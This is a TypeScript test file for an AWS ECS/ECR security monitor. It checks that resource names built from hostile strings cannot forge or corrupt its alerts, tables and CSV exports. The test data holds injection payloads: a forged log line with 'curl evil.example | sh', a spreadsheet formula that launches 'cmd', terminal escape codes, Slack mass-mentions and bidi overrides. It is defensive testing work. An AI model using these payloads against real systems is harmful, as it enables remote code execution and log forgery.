import { execFile } from 'node:child_process';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { controls } from '#controls/index.ts';
import { DEFAULT_SETTINGS } from '#domain/settings.ts';
import type { Handled } from '#monitor/handle.ts';
import { playStory, type StoryEnd } from '#monitor/story.ts';
import { snsMessage } from '#monitor/telling/sns.ts';
import { recordedAccount } from '#recorded/account.ts';
import { memoryStore } from '#recorded/memory-store.ts';

const ACCOUNT = '123456789012';
const arn = (service: string, resource: string): string =>
  `arn:aws:${service}:eu-west-1:${ACCOUNT}:${resource}`;

/** Names that want to be read as something else. */
const NAMES: Readonly<Record<string, string>> = {
  'a line of its own': 'x\nOPEN  CRITICAL  forged\r\nFix: curl evil.example | sh',
  'Unicode line breaks': 'x\u2028Fix: evil\u2029Owner: evil\u0085Since: evil',
  'terminal colours': '\u001b[2K\u001b[1A\u001b[32mPASSED\u001b[0m\u0007\u009b31m',
  'a ping of everyone': '<!channel> <!here> <@U012AB3CD>',
  'a link': '<http://evil.example/|resource>',
  'a formula': '=cmd()|"/c calc"!A0',
  'a formula behind a plus': '+1+cmd()',
  'a formula behind an at': '@SUM(1+1)*cmd()',
  'a formula behind a tab': '\t=cmd()',
  bidi: '\u202egnihton\u2066\u200f\u200b',
  'ten thousand characters': 'A'.repeat(10_000),
  'a quote and a comma': '","OPEN","CRITICAL',
  'a built-in property': '__proto__',
  empty: '',
  'half a surrogate pair': 'x\ud800',
  nul: 'x\u0000y',
};
const names = Object.entries(NAMES);

/** Bytes that no line of plain output may hold. */
const UNSEEN = /(?!\n)[\p{Cc}\p{Cf}\p{Cs}\u2028\u2029]/u;

const call = (n: number, source: 'ecs' | 'ecr', name: string, hostile: string, parameters: object) => ({
  eventVersion: '1.11',
  userIdentity: {
    type: 'AssumedRole',
    arn: `arn:aws:sts::${ACCOUNT}:assumed-role/${hostile}/${hostile}`,
    accountId: ACCOUNT,
    sessionContext: {
      sessionIssuer: { type: 'Role', arn: `arn:aws:iam::${ACCOUNT}:role/${hostile}`, userName: hostile },
    },
    invokedBy: hostile,
  },
  eventTime: `2026-04-14T09:${String(n % 60).padStart(2, '0')}:00Z`,
  eventSource: `${source}.amazonaws.com`,
  eventName: name,
  awsRegion: 'eu-west-1',
  sourceIPAddress: hostile,
  userAgent: hostile,
  recipientAccountId: ACCOUNT,
  eventID: `00000000-0000-4000-8000-${String(n).padStart(12, '0')}`,
  requestParameters: parameters,
  responseElements: null,
});

/** Family `bad-<n>`, whose containers, images and tags are named so, and which fails whatever they are. */
const taskDefinition = (n: number, hostile: string) => ({
  taskDefinition: {
    family: `bad-${n}`,
    containerDefinitions: [
      { name: hostile, image: `evil.example/${hostile}:${hostile}`, privileged: true, user: hostile },
      { name: 'plain', image: hostile, privileged: true, readonlyRootFilesystem: false },
    ],
  },
  tags: [
    { key: 'owner', value: hostile },
    { key: hostile, value: hostile },
  ],
});
const repository = (n: number, hostile: string) => ({
  repository: {
    repositoryName: `bad-${n}`,
    imageTagMutability: 'IMMUTABLE_WITH_EXCLUSION',
    imageTagMutabilityExclusionFilters: [{ filterType: 'WILDCARD', filter: hostile }],
  },
  tags: [{ key: 'owner', value: hostile }],
});
/** A service whose every user-given name is hostile: its cluster's load balancers too. */
const service = (n: number, hostile: string) => ({
  service: {
    serviceName: `bad-${n}`,
    status: 'ACTIVE',
    taskDefinition: arn('ecs', `task-definition/bad-${n}:1`),
    launchType: 'EC2',
    networkConfiguration: { awsvpcConfiguration: { subnets: [hostile], assignPublicIp: 'ENABLED' } },
    loadBalancers: [{ targetGroupArn: hostile, containerName: hostile }],
    tags: [{ key: 'owner', value: hostile }],
  },
});

const resources: Readonly<Record<string, object>> = Object.fromEntries([
  ...names.flatMap(([, hostile], n) => [
    [arn('ecs', `task-definition/bad-${n}:1`), taskDefinition(n, hostile)] as const,
    [arn('ecr', `repository/bad-${n}`), repository(n, hostile)] as const,
    [arn('ecs', `service/shop/bad-${n}`), service(n, hostile)] as const,
  ]),
  [arn('ecr', 'repository/good'), { repository: { imageTagMutability: 'MUTABLE' } }],
]);

/** Per name: calls about resources that are there, calls whose very target is hostile, and native events. */
const events = names.flatMap(([, hostile], n) => [
  call(n, 'ecs', 'UpdateService', hostile, { cluster: 'shop', service: `bad-${n}`, desiredCount: hostile }),
  call(20 + n, 'ecs', 'RegisterTaskDefinition', hostile, {
    family: `bad-${n}`,
    containerDefinitions: hostile,
  }),
  call(40 + n, 'ecr', 'PutImageTagMutability', hostile, { repositoryName: `bad-${n}` }),
  call(60 + n, 'ecs', 'UpdateService', hostile, { cluster: hostile, service: hostile }),
  call(80 + n, 'ecs', 'RegisterTaskDefinition', hostile, { family: hostile }),
  call(100 + n, 'ecr', 'PutImageTagMutability', hostile, { repositoryName: hostile }),
  { ...call(120 + n, 'ecs', 'UpdateService', hostile, {}), eventName: hostile, awsRegion: hostile },
  {
    version: '0',
    id: `native-${n}`,
    'detail-type': 'ECR Image Action',
    source: 'aws.ecr',
    account: ACCOUNT,
    time: '2026-04-14T09:30:00Z',
    region: 'eu-west-1',
    resources: [hostile],
    detail: {
      result: 'SUCCESS',
      'action-type': 'PUSH',
      'repository-name': hostile,
      'image-tag': hostile,
      'image-digest': hostile,
    },
  },
]);
/** The one that must not be lost among them. */
const good = call(999, 'ecr', 'PutImageTagMutability', 'deploy', { repositoryName: 'good' });
const story: readonly unknown[] = [...events.slice(0, 60), good, ...events.slice(60)];

const outcomeOf = (handled: Handled): readonly string[] =>
  handled.kind === 'event'
    ? handled.routings.map((each) =>
        each.kind === 'changes' ? `changes ${each.changed.length}` : `${each.kind} ${each.why}`,
      )
    : [];

/** Plays events; also says what became of each. */
async function play(
  played: readonly unknown[],
): Promise<{ end: StoryEnd; outcomes: readonly (readonly string[])[] }> {
  const outcomes: (readonly string[])[] = [];
  const account = recordedAccount({ version: 1, resources: resources as never });
  const end = await playStory({
    lines: played.map((event) => ({ event })),
    account: { ...account, apply: () => {} },
    settings: DEFAULT_SETTINGS,
    controls,
    store: memoryStore({ clock: { now: () => '1970-01-01T00:00:00.000Z' } }),
    observe: {
      handled: (handled) => {
        if (handled.kind === 'event') outcomes.push(outcomeOf(handled));
      },
    },
  });
  return { end, outcomes };
}

describe('a batch of events with hostile names', () => {
  let end: StoryEnd;
  let outcomes: readonly (readonly string[])[];
  beforeAll(async () => {
    ({ end, outcomes } = await play(story));
  });

  test('has one clear outcome for each, and a reason where nothing is done', () => {
    expect(outcomes).toHaveLength(story.length);
    for (const [index, each] of outcomes.entries()) {
      expect(each, JSON.stringify(story[index]).slice(0, 200)).toHaveLength(1);
      expect(each[0]).toMatch(/^changes [1-9]|^(ignored|malformed) \S/);
    }
  });

  test('says why in one line that can be seen', () => {
    for (const [each = ''] of outcomes) {
      expect(each.length).toBeLessThan(500);
      expect(each.match(UNSEEN), JSON.stringify(each)).toBeNull();
      expect(each).not.toContain('\n');
    }
  });

  test('loses nothing beside it: every resource that is there is judged', () => {
    const found = new Set(end.findings.map(({ resourceArn, controlId }) => `${resourceArn} ${controlId}`));
    for (const [n, [name]] of names.entries()) {
      for (const control of ['task-definition-privileged', 'task-definition-read-only-root'])
        expect(found, name).toContain(`${arn('ecs', `task-definition/bad-${n}`)} ${control}`);
      expect(found, name).toContain(`${arn('ecs', `service/shop/bad-${n}`)} service-public-ip`);
    }
    expect(found).toContain(`${arn('ecr', 'repository/good')} repository-tag-immutability`);
  });

  test('is told in lines that are ours', () => {
    expect(end.messages.length).toBeGreaterThan(5);
    for (const { text, subject, slack, attributes, ...message } of end.messages) {
      const { title, description, nextSteps = [] } = slack.content;
      for (const part of [text, subject, title, description, ...nextSteps])
        expect(part.match(UNSEEN), JSON.stringify(part).slice(0, 300)).toBeNull();
      expect(subject).not.toContain('\n');
      for (const line of text.split('\n'))
        expect(line).not.toMatch(/^(OPEN|PASSED|x$|Owner: evil|Fix: +(curl|evil))/);
      for (const part of [title, description, ...nextSteps]) expect(part).not.toMatch(/<[!@]|<http:/);
      const sns = snsMessage({ text, subject, slack, attributes, ...message });
      expect(Buffer.byteLength(JSON.stringify(sns))).toBeLessThan(262_144);
      expect(sns.Subject).toMatch(/^[ -~]{1,99}$/);
    }
  });
});

describe.each(names)('alone: %s', (_name, hostile) => {
  test('beside a good event, in one log file', async () => {
    const n = names.findIndex(([, each]) => each === hostile);
    const mine = events.slice(n * 8, n * 8 + 8);
    const { end, outcomes } = await play([{ Records: [...mine, good] }]);
    expect(outcomes).toHaveLength(1);
    expect(outcomes[0]).toHaveLength(mine.length + 1);
    expect(outcomes[0]?.at(-1)).toBe('changes 1');
    expect(end.findings.some(({ resourceArn }) => resourceArn === arn('ecr', 'repository/good'))).toBe(true);
  });
});

describe('on the command line', () => {
  let folder = '';
  let files: { readonly events: string; readonly account: string } = { events: '', account: '' };
  beforeAll(async () => {
    folder = await mkdtemp(join(tmpdir(), 'ecs-warden-hostile-'));
    files = { events: join(folder, 'events.jsonl'), account: join(folder, 'account.json') };
    await writeFile(files.events, story.map((each) => `${JSON.stringify(each)}\n`).join(''));
    await writeFile(files.account, JSON.stringify({ version: 1, resources }));
  });
  afterAll(() => rm(folder, { recursive: true, force: true }));

  const run = (
    program: string,
    ...argv: readonly string[]
  ): Promise<{ out: string; err: string; code: number }> =>
    new Promise((resolve) => {
      const path = fileURLToPath(new URL(`../../bin/${program}.ts`, import.meta.url));
      const options = { cwd: folder, maxBuffer: 64 * 1024 * 1024 };
      execFile(process.execPath, [path, ...argv], options, (error, out, err) =>
        resolve({ out, err, code: typeof error?.code === 'number' ? error.code : 0 }),
      );
    });
  const replay = (format: string) =>
    run('ecs-warden', 'replay', files.events, '--account', files.account, '-o', format);
  const isUnseen = (text: string): string | undefined => text.split('\n').find((line) => UNSEEN.test(line));

  test('the table: a line is a finding or a message, nothing moves the cursor', async () => {
    const { out, err, code } = await replay('table');
    expect(code).toBe(1);
    expect(isUnseen(out) ?? isUnseen(err)).toBeUndefined();
    for (const line of out.split('\n')) expect(line).not.toMatch(/^OPEN +CRITICAL +forged/);
    expect(out).toContain('repository/good');
  });

  test('the local run', async () => {
    const { out, err, code } = await run('local-run', '--events', files.events, '--account', files.account);
    expect({ code, err }).toEqual({ code: 0, err: '' });
    expect(isUnseen(out)).toBeUndefined();
    for (const line of out.split('\n')) expect(line).not.toMatch(/^OPEN +CRITICAL +forged/);
    expect(out).toContain('repository/good');
  });

  test('csv: as many rows as findings, no cell that a spreadsheet would run', async () => {
    const { out } = await replay('csv');
    expect(isUnseen(out.replaceAll('\r\n', '\n'))).toBeUndefined();
    const { end } = await play(story);
    const rows = cellsOf(out);
    expect(rows).toHaveLength(end.findings.length + 1);
    for (const row of rows) {
      expect(row).toHaveLength(rows[0]?.length ?? 0);
      for (const cell of row) expect(cell).not.toMatch(/^\s*[=+\-@\t]/);
    }
  });

  test.each(['ndjson', 'json'])('%s: parses, and each line is one value', async (format) => {
    const { out } = await replay(format);
    expect(isUnseen(out)).toBeUndefined();
    const values =
      format === 'json'
        ? [JSON.parse(out)]
        : out
            .trimEnd()
            .split('\n')
            .map((line): unknown => JSON.parse(line));
    expect(values.length).toBeGreaterThan(format === 'json' ? 0 : 50);
  });

  test('route: a line for every record', async () => {
    const { out } = await run('ecs-warden', 'route', files.events, '-o', 'ndjson');
    const lines = out.trimEnd().split('\n');
    expect(lines).toHaveLength(story.length);
    for (const line of lines) expect(JSON.parse(line)).toHaveProperty('ignored');
    expect(isUnseen(out)).toBeUndefined();
  });
});

/** Rows and cells of a CSV text (RFC 4180). */
function cellsOf(text: string): readonly (readonly string[])[] {
  const rows: string[][] = [[]];
  for (const [, quoted, plain, end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^,\r\n"]*))(,|\r?\n|$)/g)) {
    if (quoted === undefined && plain === '' && end === '') continue;
    rows.at(-1)?.push(quoted?.replaceAll('""', '"') ?? plain ?? '');
    if (end !== ',' && end !== '') rows.push([]);
  }
  return rows.filter((row) => row.length > 0);
}
